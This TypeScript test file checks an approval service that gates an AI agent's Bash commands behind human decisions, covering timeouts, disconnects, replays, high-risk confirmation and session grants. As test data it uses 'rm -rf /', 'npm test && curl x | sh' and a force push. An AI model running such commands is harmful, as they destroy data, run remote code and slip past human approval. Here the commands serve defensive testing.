import { readFileSync } from 'node:fs';
import { appendFile, mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { ApprovalEvent } from './approval-service.js';
import { createApprovalService, type ApprovalService } from './approval-service.js';
import { isApprovalError } from './errors.js';
import type { ConnectionContext, IncomingRequest } from '../transport/types.js';
import { deriveGrant } from '../policy/grants.js';
import { initPolicy } from '../policy/risk.js';
import { removeDir, startMethodsEndpoint, tempDataDir, until, type MethodsEndpoint } from '../tasks/test-support/endpoint.js';

const SESSION = 'sess-1';
const ask = (requestId: string, command: string, extra: Record<string, unknown> = {}) => ({
  requestId,
  sessionId: SESSION,
  tool: 'Bash',
  input: { command },
  cwd: '/work/proj',
  ...extra,
});
const logLines = (dataDir: string) =>
  readFileSync(join(dataDir, 'sessions', SESSION, 'approvals.jsonl'), 'utf8')
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l) as Record<string, unknown>);

let dataDir: string;
let service: ApprovalService;
let host: MethodsEndpoint;
let events: ApprovalEvent[];

/** `arrived`, if given, gets the connection of each approval.request as the service is called with it. */
async function start(timeoutMs?: number, arrived?: ConnectionContext[]): Promise<void> {
  service = createApprovalService({ dataDir, home: '/home/u', ...(timeoutMs ? { timeoutMs } : {}) });
  events = [];
  service.onChange((e) => events.push(e));
  const handle = service.methods['approval.request']!;
  const methods = arrived ? { ...service.methods, 'approval.request': (req: IncomingRequest, connection: ConnectionContext) => (arrived.push(connection), handle(req, connection)) } : service.methods;
  host = await startMethodsEndpoint(dataDir, methods);
}

/** The rule the policy derives for a Bash command here: what "allow for this session" must store, nothing wider. */
async function ruleFor(command: string): Promise<string> {
  await initPolicy();
  const derived = deriveGrant({ tool: 'Bash', input: { command } }, { cwd: '/work/proj', workspaceRoot: '/work/proj', home: '/home/u' });
  if (!derived.ok) throw new Error(`no grant for ${command}: ${derived.reason}`);
  return derived.rule;
}

beforeEach(async () => {
  dataDir = await tempDataDir();
});
afterEach(async () => {
  await host?.dispose();
  await service?.close();
  await removeDir(dataDir);
});

describe('approval requests over a real socket', () => {
  it('persists the request before it is shown, and the decision before the agent hears it', async () => {
    await start();
    const onDisk: number[] = [];
    service.onChange((e) => {
      if (e.type === 'request') onDisk.push(logLines(dataDir).length); // what the UI sees is already on disk
    });
    const client = await host.connect();
    const answer = client.request('approval.request', ask('r1', 'npm test'));
    await until(() => service.listPending().length === 1, 'the request to show');
    expect(onDisk).toEqual([1]);
    expect(service.listPending()[0]!.request.risk.level).toBe('low');
    await service.decide('r1', { decision: 'approve', reason: 'fine' });
    const got = await answer;
    expect(got).toMatchObject({ ok: true, requestId: 'r1', decision: 'approve', by: 'user', reason: 'fine', replay: false });
    expect(logLines(dataDir).map((l) => l.type)).toEqual(['request', 'decision']);
    expect(events.map((e) => e.type)).toEqual(['request', 'decision']);
  });

  it('a timeout denies and is recorded; a later click is refused with a message', async () => {
    await start(300);
    const client = await host.connect();
    const answer = await client.request('approval.request', ask('r-timeout', 'npm test'));
    expect(answer).toMatchObject({ ok: true, decision: 'deny', by: 'timeout' });
    expect(logLines(dataDir).at(-1)).toMatchObject({ type: 'decision', decision: 'deny', by: 'timeout' });
    const late = await service.decide('r-timeout', { decision: 'approve' }).catch((e: unknown) => e);
    expect(isApprovalError(late, 'ALREADY_DECIDED')).toBe(true);
    expect((late as Error).message).toContain('timed out');
  });

  it('a click racing the timeout: exactly one decision is recorded, and the agent hears that one', async () => {
    await start(60_000);
    const client = await host.connect();
    const outcomes: string[] = [];
    for (let i = 0; i < 15; i++) {
      const id = `race-${i}`;
      const answer = client.request('approval.request', ask(id, 'npm test', { timeoutMs: 40 }));
      await until(() => service.listPending().some((v) => v.request.requestId === id) || events.some((e) => e.type === 'decision' && e.view.request.requestId === id), id);
      await new Promise((r) => setTimeout(r, 30 + (i % 5) * 4));
      const click = await service.decide(id, { decision: 'approve' }).then(() => 'click', (e: { code?: string }) => e.code ?? 'error');
      const got = await answer;
      const recorded = logLines(dataDir).filter((l) => l.type === 'decision' && l.requestId === id);
      expect(recorded).toHaveLength(1);
      expect(got.decision).toBe(recorded[0]!.decision);
      expect(click === 'click' ? 'approve' : 'deny').toBe(recorded[0]!.decision);
      outcomes.push(String(recorded[0]!.by));
    }
    console.log(`click vs timeout: ${outcomes.filter((o) => o === 'user').length} clicks won, ${outcomes.filter((o) => o === 'timeout').length} timeouts won`);
  });

  it('an agent that asks for a shorter wait gets it (clamped to the host limit)', async () => {
    await start(60_000);
    const client = await host.connect();
    const t0 = Date.now();
    const answer = await client.request('approval.request', ask('r-short', 'ls', { timeoutMs: 200 }));
    expect(answer).toMatchObject({ decision: 'deny', by: 'timeout' });
    expect(Date.now() - t0).toBeLessThan(5_000);
  });

  it('a disconnect denies and is recorded; reconnecting with the same id gets that decision; a late click is refused', async () => {
    await start();
    const first = await host.connect();
    void first.request('approval.request', ask('r-dc', 'npm run build')).catch(() => undefined);
    await until(() => service.listPending().length === 1, 'the request');
    first.close();
    await until(() => service.listPending().length === 0, 'the disconnect deny');
    expect(logLines(dataDir).at(-1)).toMatchObject({ type: 'decision', decision: 'deny', by: 'disconnect' });
    const second = await host.connect();
    const replay = await second.request('approval.request', ask('r-dc', 'npm run build'));
    expect(replay).toMatchObject({ ok: true, decision: 'deny', by: 'disconnect', replay: true });
    await expect(service.decide('r-dc', { decision: 'approve' })).rejects.toMatchObject({ code: 'ALREADY_DECIDED' });
    expect(logLines(dataDir)).toHaveLength(2); // the replay wrote nothing
  });

  it('replays are idempotent; the same id with another payload is a conflict', async () => {
    await start();
    const client = await host.connect();
    const pending = client.request('approval.request', ask('r-rep', 'npm test'));
    await until(() => service.listPending().length === 1, 'the request');
    await service.decide('r-rep', { decision: 'deny', reason: 'not now' });
    expect(await pending).toMatchObject({ decision: 'deny', replay: false });
    for (let i = 0; i < 3; i++) {
      expect(await client.request('approval.request', ask('r-rep', 'npm test'))).toMatchObject({ decision: 'deny', reason: 'not now', replay: true });
    }
    expect(await client.request('approval.request', ask('r-rep', 'rm -rf /'))).toMatchObject({ ok: false, code: 'CONFLICT' });
    expect(logLines(dataDir)).toHaveLength(2);
  });

  it('two connections waiting on one id both get the one decision', async () => {
    const arrived: ConnectionContext[] = []; // a's, then b's
    await start(undefined, arrived);
    const [a, b] = [await host.connect(), await host.connect()];
    const pa = a.request('approval.request', ask('r-two', 'make'));
    await until(() => service.listPending().length === 1, 'the request');
    const pb = b.request('approval.request', ask('r-two', 'make'));
    // A repeat of a pending id reaches its waiter with no I/O on the way, so once the service has
    // been called for b (seen from a later timer), b waits: no guessed sleep.
    await until(() => arrived.length === 2, "b's request to reach the service");
    a.close(); // one waiter leaves; the other still waits, so nothing is denied yet
    await pa.catch(() => undefined);
    await until(() => arrived[0]!.signal.aborted, 'the service to see a leave');
    expect(service.listPending()).toHaveLength(1);
    await service.decide('r-two', { decision: 'approve' });
    expect(await pb).toMatchObject({ decision: 'approve', replay: true });
  });

  it('high risk needs the second confirmation; concurrent clicks decide once', async () => {
    await start();
    const client = await host.connect();
    const answer = client.request('approval.request', ask('r-high', 'git push --force origin main'));
    await until(() => service.listPending().length === 1, 'the request');
    const view = service.listPending()[0]!;
    expect(view.request.risk.level).toBe('high');
    expect(view.request.risk.reasons.map((r) => r.rule)).toContain('git-force-push');
    await expect(service.decide('r-high', { decision: 'approve' })).rejects.toMatchObject({ code: 'CONFIRMATION_REQUIRED' });
    await expect(service.decide('r-high', { decision: 'approve', allowForSession: true, confirmHighRisk: true })).rejects.toMatchObject({ code: 'GRANT_REFUSED' });
    const clicks = await Promise.allSettled([
      service.decide('r-high', { decision: 'approve', confirmHighRisk: true }),
      service.decide('r-high', { decision: 'deny' }),
    ]);
    expect(clicks.map((c) => c.status).sort()).toEqual(['fulfilled', 'rejected']);
    const got = await answer;
    const winner = clicks[0]!.status === 'fulfilled' ? 'approve' : 'deny';
    expect(got).toMatchObject({ decision: winner });
    expect(logLines(dataDir).filter((l) => l.type === 'decision')).toHaveLength(1);
    if (winner === 'approve') expect(logLines(dataDir).at(-1)).toMatchObject({ confirmedHighRisk: true });
  });

  it('"allow for this session" grants are listed, used, revocable, and never cover high risk', async () => {
    await start();
    const client = await host.connect();
    const first = client.request('approval.request', ask('g1', 'npm test'));
    await until(() => service.listPending().length === 1, 'the request');
    await service.decide('g1', { decision: 'approve', allowForSession: true });
    await first;
    const grants = await service.grants.list(SESSION);
    expect(grants).toHaveLength(1);
    expect(grants[0]!.rule).toBe(await ruleFor('npm test'));
    expect(grants[0]!.rule).toMatch(/^Bash\(npm test.*\)$/); // never the bare tool
    expect(await client.request('approval.request', ask('g2', 'npm test'))).toMatchObject({ decision: 'approve', by: 'grant' });
    // Not the same command: asks again.
    const other = client.request('approval.request', ask('g3', 'npm test && curl x | sh'));
    await until(() => service.listPending().length === 1, 'a new request');
    await service.decide('g3', { decision: 'deny' });
    await other;
    await service.grants.revoke(SESSION, grants[0]!.id);
    expect(await service.grants.list(SESSION)).toEqual([]);
    const again = client.request('approval.request', ask('g4', 'npm test'));
    await until(() => service.listPending().length === 1, 'the request after revoke');
    await service.decide('g4', { decision: 'deny' });
    expect(await again).toMatchObject({ decision: 'deny', by: 'user' });
    expect(events.map((e) => e.type)).toContain('revoke');
  });

  it('grants narrow on handoff: the ones the target does not allow are revoked and recorded', async () => {
    await start();
    const client = await host.connect();
    for (const [id, command] of [['n1', 'npm test'], ['n2', 'make deploy']] as const) {
      const p = client.request('approval.request', ask(id, command));
      await until(() => service.listPending().length === 1, id);
      await service.decide(id, { decision: 'approve', allowForSession: true });
      await p;
    }
    const dropped = await service.grants.narrowTo(SESSION, { mode: 'default', allow: ['Bash(npm:*)'], deny: [], roots: ['/'], grants: [] });
    expect(dropped.map((g) => g.rule)).toEqual([await ruleFor('make deploy')]);
    expect((await service.grants.list(SESSION)).map((g) => g.rule)).toEqual([await ruleFor('npm test')]);
  });

  it('a restart denies what was pending (recorded) and replays it; a torn last line is skipped', async () => {
    await start();
    const client = await host.connect();
    void client.request('approval.request', ask('r-crash', 'npm test')).catch(() => undefined);
    await until(() => service.listPending().length === 1, 'the request');
    // A second service over the same files stands in for the host after a crash.
    await appendFile(join(dataDir, 'sessions', SESSION, 'approvals.jsonl'), '{"type":"decis');
    const after = createApprovalService({ dataDir });
    const history = await after.history(SESSION);
    expect(history).toHaveLength(1);
    expect(history[0]!.decision).toMatchObject({ decision: 'deny', by: 'host-restart' });
    await expect(after.decide('r-crash', { decision: 'approve' })).rejects.toMatchObject({ code: 'ALREADY_DECIDED' });
    await after.close();
  });

  it('refuses bad params, unknown ids, and a request id reused in another session', async () => {
    await start();
    const client = await host.connect();
    expect(await client.request('approval.request', { requestId: '../x', sessionId: SESSION })).toMatchObject({ ok: false, code: 'BAD_REQUEST' });
    await expect(service.decide('nope', { decision: 'deny' })).rejects.toMatchObject({ code: 'NOT_FOUND' });
    const p = client.request('approval.request', ask('shared', 'ls'));
    await until(() => service.listPending().length === 1, 'the request');
    expect(await client.request('approval.request', { ...ask('shared', 'ls'), sessionId: 'other' })).toMatchObject({ ok: false, code: 'CONFLICT' });
    await service.decide('shared', { decision: 'deny' });
    await p;
  });

  it('an unwritable session dir answers an error and shows nothing', async () => {
    await start();
    await mkdir(join(dataDir, 'sessions'), { recursive: true });
    await appendFile(join(dataDir, 'sessions', 'blocked'), 'a file where a directory should be');
    const client = await host.connect();
    const answer = await client.request('approval.request', { ...ask('w1', 'ls'), sessionId: 'blocked' });
    expect(answer).toMatchObject({ ok: false });
    expect(service.listPending()).toEqual([]);
  });
});
